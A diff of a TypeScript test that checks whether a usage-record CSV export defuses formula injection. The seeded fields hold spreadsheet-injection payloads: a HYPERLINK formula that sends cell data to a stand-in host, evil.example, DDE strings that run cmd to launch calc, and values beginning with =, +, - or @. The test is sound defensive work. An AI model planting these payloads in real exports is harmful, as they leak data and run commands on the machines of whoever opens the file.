@@ -52,7 +52,7 @@ const seeded: UsageRecord[] = [
   {
     request_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', at, account: '@SUM(A1:A9)', key_id: '+cmd|\' /C calc\'!A0', team: '=1+team',
     model: '-2+3+cmd|\' /C calc\'!A0', provider: '\tprov', target: '\r=1', route: "'already quoted", status: -1,
-    prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0,
+    prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0, tags: ['a', 'b'], end_user: '=1+user',
   },
 ];
 {
@@ -108,7 +108,7 @@ t.test('client-chosen request ids and seeded formulas export as text cells', asy
   const row = rows.find((r) => r[col('request_id')]!.includes('HYPERLINK'))!;
   t.strictSame(row, [
     '\'=HYPERLINK("http://evil.example/?"&A1,"click")', new Date(at).toISOString(), "'@SUM(A1:A9)", '\'+cmd|\' /C calc\'!A0', "'=1+team",
-    '\'-2+3+cmd|\' /C calc\'!A0', "'\tprov", "'\r=1", "''already quoted", "'-1", '1', '0', '2', '3', 'upstream', "'-3.5", '', '0',
+    '\'-2+3+cmd|\' /C calc\'!A0', "'\tprov", "'\r=1", "''already quoted", "'-1", '1', '0', '2', '3', 'upstream', "'-3.5", '', '0', 'a,b', "'=1+user",
   ]);
   t.ok(run.out.includes('\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), 'quoted as RFC 4180 says, the mark inside the quotes');
 
